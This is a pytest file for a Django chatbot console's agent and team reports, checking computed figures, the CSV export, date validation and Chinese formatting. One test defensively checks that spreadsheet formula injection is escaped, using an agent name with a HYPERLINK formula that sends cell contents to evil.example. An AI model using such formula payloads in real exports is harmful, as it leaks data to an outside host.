"""Per-agent reports checked against figures this test computes itself from the rows it
creates (handled, median first response and resolution, CSAT, handoff reasons), the CSV export,
and the page."""

import csv
import io
import random
import re
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from chatbot.handoff.models import Team
from chatbot.inbox import reports
from chatbot.models import Conversation, Message
from tests.handoff.conftest import make_agent

pytestmark = pytest.mark.django_db

REASONS = ["visitor_request", "visitor_words", "bot_unsure", "models_down"]


def median(values: list[float]) -> float | None:
    """Written out here, not statistics.median: the check must not share the code it checks."""
    if not values:
        return None
    ordered = sorted(values)
    middle = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[middle]
    return (ordered[middle - 1] + ordered[middle]) / 2


def expected_figures(records, *, since):
    """Per agent, from the rows as created: conversations queued since `since` (up to now)."""
    expected = {}
    for agent_id, queued, first, closed, rating, reason in records:
        if queued < since:
            continue
        e = expected.setdefault(
            agent_id, {"handled": 0, "first": [], "resolution": [], "ratings": [], "reasons": {}}
        )
        e["handled"] += 1
        if first:
            e["first"].append((first - queued).total_seconds())
        if closed:
            e["resolution"].append((closed - queued).total_seconds())
        if rating:
            e["ratings"].append(rating)
        e["reasons"][reason] = e["reasons"].get(reason, 0) + 1
    return expected


def test_report_matches_figures_computed_from_the_rows():
    rng = random.Random(20)
    agents = [make_agent("ann"), make_agent("bob"), make_agent("cy")]
    today = timezone.localdate()
    noon = timezone.make_aware(timezone.datetime.combine(today, timezone.datetime.min.time()))
    noon += timedelta(hours=12)
    billing, returns = Team.objects.create(name="Billing"), Team.objects.create(name="Returns")
    records = []  # (agent id, queued, first reply, closed, rating, reason)
    teams = []  # the team each record's conversation was given to (0: none)
    for _ in range(40):
        agent = rng.choice(agents)
        team = rng.choice([billing, returns, None])
        queued = noon - timedelta(days=rng.randrange(0, 3), minutes=rng.randrange(0, 300))
        c = Conversation.objects.create(locale="en")
        first = queued + timedelta(seconds=rng.randrange(5, 900)) if rng.random() < 0.85 else None
        fate = rng.choice(["agent", "closed", "closed", "returned"])
        closed = queued + timedelta(seconds=rng.randrange(600, 7200)) if fate == "closed" else None
        rating = rng.choice([None, 1, 2, 3, 4, 5, 5]) if fate == "closed" else None
        reason = rng.choice(REASONS)
        if fate == "returned":
            # Back with the bot: nobody holds it, its last agent message says who handled it.
            if first is None:
                first = queued + timedelta(seconds=30)
            Message.objects.create(conversation=c, role="agent", author=agent, text="hi")
            Message.objects.filter(conversation=c).update(created_at=first)
        Conversation.objects.filter(pk=c.pk).update(
            status={"agent": "agent", "closed": "closed", "returned": "bot"}[fate],
            assigned_to=None if fate == "returned" else agent,
            queued_at=queued,
            claimed_at=queued + timedelta(seconds=3),
            first_agent_reply_at=first,
            closed_at=closed,
            rating=rating,
            handoff_reason=reason,
            team=team,
        )
        records.append((agent.id, queued, first, closed, rating, reason))
        teams.append(team.pk if team else 0)
    # Outside the figures: queued before the range, never claimed, and claimed but never
    # answered then returned to the bot (nobody to count it for).
    early = Conversation.objects.create()
    Conversation.objects.filter(pk=early.pk).update(
        queued_at=noon - timedelta(days=30),
        claimed_at=noon - timedelta(days=30),
        assigned_to=agents[0],
    )
    unclaimed = Conversation.objects.create()
    Conversation.objects.filter(pk=unclaimed.pk).update(status="queued", queued_at=noon)
    silent = Conversation.objects.create()
    Conversation.objects.filter(pk=silent.pk).update(queued_at=noon, claimed_at=noon)

    expected = expected_figures(
        records, since=timezone.localtime(noon).replace(hour=0, minute=0) - timedelta(days=2)
    )
    figures = reports.agent_report(start_day=today - timedelta(days=2), end_day=today)
    assert [f.name for f in figures] == ["ann", "bob", "cy"]
    for f in figures:
        e = expected[f.row_id]
        assert f.handled == e["handled"]
        assert f.first_response_median_s == pytest.approx(median(e["first"]))
        assert f.resolution_median_s == pytest.approx(median(e["resolution"]))
        assert len(f.ratings) == len(e["ratings"])
        satisfied = sum(1 for r in e["ratings"] if r in (4, 5))
        assert f.csat == (pytest.approx(satisfied / len(e["ratings"])) if e["ratings"] else None)
        assert dict(f.reasons) == e["reasons"]
    assert sum(f.handled for f in figures) == 40

    # One day only: the figures still match the rows of that day.
    day = expected_figures(records, since=timezone.localtime(noon).replace(hour=0, minute=0))
    one_day = reports.agent_report(start_day=today, end_day=today)
    assert {f.row_id: f.handled for f in one_day} == {a: e["handled"] for a, e in day.items()}
    assert sum(f.handled for f in one_day) < 40

    # The CSV says the same, one row per agent.
    client = Client()
    client.force_login(agents[0])
    start = (today - timedelta(days=2)).isoformat()
    response = client.get("/console/reports.csv", {"from": start, "to": today.isoformat()})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeffagent,".encode())  # Excel opens it as UTF-8
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["agent"] for r in rows] == ["ann", "bob", "cy", "(all agents)"]
    # Every agent together: medians over all their conversations, computed from the rows too.
    since = timezone.localtime(noon).replace(hour=0, minute=0) - timedelta(days=2)
    everyone = expected_figures([(0, *r[1:]) for r in records], since=since)[0]
    assert int(rows[-1]["conversations_handled"]) == 40
    assert float(rows[-1]["resolution_median_s"]) == pytest.approx(
        median(everyone["resolution"]), abs=0.05
    )
    satisfied = sum(1 for r in everyone["ratings"] if r >= 4)
    assert float(rows[-1]["csat"]) == pytest.approx(satisfied / len(everyone["ratings"]), abs=5e-4)
    for row, f in zip(rows[:-1], figures, strict=True):
        e = expected[f.row_id]
        assert int(row["conversations_handled"]) == e["handled"]
        if e["first"]:
            assert float(row["first_response_median_s"]) == pytest.approx(
                median(e["first"]), abs=0.05
            )
        assert int(row["ratings"]) == len(e["ratings"])
        pairs = dict(p.split("=") for p in row["handoff_reasons"].split())
        assert {k: int(v) for k, v in pairs.items()} == e["reasons"]

    # Per team: the same conversations grouped by the team they were given to, none last.
    by_team = expected_figures(
        [(team, *r[1:]) for r, team in zip(records, teams, strict=True)], since=since
    )
    team_figures = reports.team_report(start_day=today - timedelta(days=2), end_day=today)
    assert [f.name for f in team_figures] == ["Billing", "Returns", reports.NO_TEAM]
    for f in team_figures:
        e = by_team[f.row_id]
        assert (f.handled, dict(f.reasons)) == (e["handled"], e["reasons"])
        assert f.first_response_median_s == pytest.approx(median(e["first"]))
        assert f.resolution_median_s == pytest.approx(median(e["resolution"]))
    response = client.get(
        "/console/reports.csv", {"by": "team", "from": start, "to": today.isoformat()}
    )
    team_rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["team"] for r in team_rows] == ["Billing", "Returns", "(no team)", "(all teams)"]
    assert [int(r["conversations_handled"]) for r in team_rows[:-1]] == [
        by_team[f.row_id]["handled"] for f in team_figures
    ]
    assert client.get("/console/reports.csv", {"by": "label"}).status_code == 400

    page = client.get("/console/reports/", {"from": start, "to": today.isoformat()})
    assert page.status_code == 200
    assert f'data-agent="{agents[1].id}"'.encode() in page.content
    assert f'data-team="{billing.id}"'.encode() in page.content
    assert b'data-agent="all"' in page.content
    assert (
        client.get("/console/reports/", {"from": "2026-02-01", "to": "2026-01-01"}).status_code
        == 400
    )


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    agent = make_agent("mallory")
    agent.first_name = '=HYPERLINK("http://evil.example/?x="&B2,"mallory")'
    agent.save()
    team = Team.objects.create(name="@SUM(1+1)")
    now = timezone.now()
    c = Conversation.objects.create(locale="en")
    Conversation.objects.filter(pk=c.pk).update(
        status="closed", assigned_to=agent, team=team, queued_at=now, claimed_at=now, closed_at=now
    )
    client = Client()
    client.force_login(agent)
    names = {}
    for by in ("agent", "team"):
        response = client.get("/console/reports.csv", {"by": by})
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        names[by] = rows[1][0]
    assert names == {
        "agent": '\'=HYPERLINK("http://evil.example/?x="&B2,"mallory")',
        "team": "'@SUM(1+1)",
    }


@pytest.mark.parametrize(
    ("query", "reason"),
    [
        ({"from": "2026-12-07", "to": "2026-12-01"}, "结束日期早于开始日期。"),
        ({"from": "2026-13-01"}, "日期请写成 YYYY-MM-DD，例如 2026-12-01。"),
        ({"from": "x"}, "日期请写成 YYYY-MM-DD，例如 2026-12-01。"),
        ({"from": "2020-01-01", "to": "2026-12-01"}, "请选择不超过 366 天的范围。"),
    ],
)
def test_a_range_that_cannot_be_read_shows_the_default_report_with_the_reason(query, reason):
    """Python's own "month must be in 1..12" once came back as a plain-text page, in English
    for a Chinese admin (an analytics walk)."""
    client = Client()
    client.force_login(make_agent("ann"))
    page = client.get("/console/reports/", query, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert page.status_code == 400
    assert reason in page.content.decode()
    today = timezone.localdate()
    assert f'value="{today.isoformat()}"' in page.content.decode(), "the default range"
    csv_answer = client.get("/console/reports.csv", query, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert (csv_answer.status_code, csv_answer.content.decode()) == (400, reason)


def test_the_chinese_page_writes_seconds_and_lists_as_chinese_does():
    """A Chinese team read "7 s" beside the console's "12秒", and reasons joined by ", "."""
    agent = make_agent("ann")
    queued = timezone.now() - timedelta(hours=1)
    for reason in ("visitor_request", "models_down"):
        c = Conversation.objects.create(locale="zh-hans")
        Conversation.objects.filter(pk=c.pk).update(
            status="closed",
            assigned_to=agent,
            queued_at=queued,
            claimed_at=queued + timedelta(seconds=3),
            first_agent_reply_at=queued + timedelta(seconds=12),
            closed_at=queued + timedelta(seconds=70),
            handoff_reason=reason,
        )
    client = Client()
    client.force_login(agent)
    page = client.get("/console/reports/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert '<td class="first-response">12秒</td>' in page
    assert '<td class="resolution">70秒</td>' in page
    reasons = re.search(r'<td class="reasons">([^<]*)</td>', page).group(1)
    assert "、" in reasons and ", " not in reasons
    english = client.get("/console/reports/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert '<td class="first-response">12 s</td>' in english
